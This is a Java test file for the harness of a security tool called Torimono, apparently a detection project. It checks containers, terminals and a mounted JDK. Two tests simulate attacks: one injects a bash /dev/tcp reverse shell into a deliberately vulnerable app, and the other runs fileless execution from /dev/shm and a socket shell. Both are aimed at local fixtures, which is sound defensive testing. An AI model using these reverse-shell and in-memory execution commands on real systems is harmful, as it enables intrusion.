// SPDX-License-Identifier: Apache-2.0
// Copyright The Torimono Authors
package dev.torimono.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import dev.torimono.e2e.fixture.Attacker;
import dev.torimono.e2e.fixture.Container;
import dev.torimono.e2e.fixture.DockerDaemon;
import dev.torimono.e2e.fixture.Images;
import dev.torimono.e2e.fixture.NeedsDocker;
import dev.torimono.e2e.fixture.VictimApp;
import dev.torimono.e2e.fixture.VictimTools;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The ground under the scenarios, without any agent. */
@NeedsDocker
class HarnessTest {
    private final DockerDaemon docker;

    HarnessTest(DockerDaemon docker) {
        this.docker = docker;
    }

    @Test
    void containerRunsCommandsAndIsGoneAfterwards() throws Exception {
        long pid;
        try (Container container = docker.sleeper()) {
            pid = container.pid();
            assertThat(container.exec("cat", "/proc/1/comm").check().text()).isEqualTo("sleep");
            assertThat(Files.readString(Path.of("/proc/" + pid + "/cgroup")))
                    .contains(container.fullId());
        }
        assertThat(Path.of("/proc/" + pid)).doesNotExist();
    }

    @Test
    void terminalIsATerminal() {
        try (Container container = docker.sleeper()) {
            assertThat(container.terminal("sh", "-c", "tty && echo it\"'\"s").check().out())
                    .contains("/dev/pts/0")
                    .contains("it's");
            assertThat(container.exec("tty").run().exit()).isEqualTo(1);
        }
    }

    @Test
    void mountedJdkRunsInAContainer() {
        List<String> options =
                List.of("--network", "none", "-v", Images.javaHome() + ":/opt/jdk:ro");
        try (Container container =
                docker.run(docker.images().bashAndLibc(), options, "sleep", "1000000")) {
            assertThat(container.exec("/opt/jdk/bin/java", "-version").check().err())
                    .contains("25");
            assertThat(container.exec("bash", "-c", "echo $BASH_VERSION").check().text())
                    .startsWith("5");
        }
    }

    @Test
    void vulnerableAppGivesTheAttackerAShell() throws Exception {
        try (Attacker attacker = new Attacker();
                VictimApp app = new VictimApp(docker)) {
            assertThat(app.exploit("echo $0").get().body()).isEqualTo("/bin/bash\n");
            var response =
                    app.exploit("bash -i >& /dev/tcp/127.0.0.1/" + attacker.port() + " 0>&1");
            assertThat(attacker.command("echo $((6*7))\nexit\n")).contains("42");
            assertThat(response.get().statusCode()).isEqualTo(200);
        }
    }

    @Test
    void victimsDoWhatTheyAreToldTo() throws Exception {
        List<String> options = new ArrayList<>(VictimTools.mount(docker));
        options.addAll(List.of("--network", "host", "--tmpfs", "/dev/shm:exec"));
        try (Attacker attacker = new Attacker();
                Container container =
                        docker.run(docker.images().busybox(), options, "sleep", "1000000")) {
            String victim = VictimTools.VICTIM;
            container.exec(victim, "fork-exec", VictimTools.LEAF, "10").check();
            container.exec("touch", "/tmp/plain").check();
            container.exec(victim, "open-close", "/tmp/plain", "2001").check();
            assertThat(container.exec("ls", "/tmp").check().text())
                    .contains("plain-mark-0", "plain-mark-1", "plain-mark-2");
            assertThat(
                            container
                                    .exec(victim, "from-memory", "/bin/busybox", "echo", "hi")
                                    .check()
                                    .text())
                    .isEqualTo("hi");
            container.exec("sh", "-c", "cp /bin/busybox /dev/shm/id; /dev/shm/id").check();
            String port = Integer.toString(attacker.port());
            container.execDetached(victim, "shell-on-socket", port).check();
            attacker.command("exit\n");
        }
    }
}
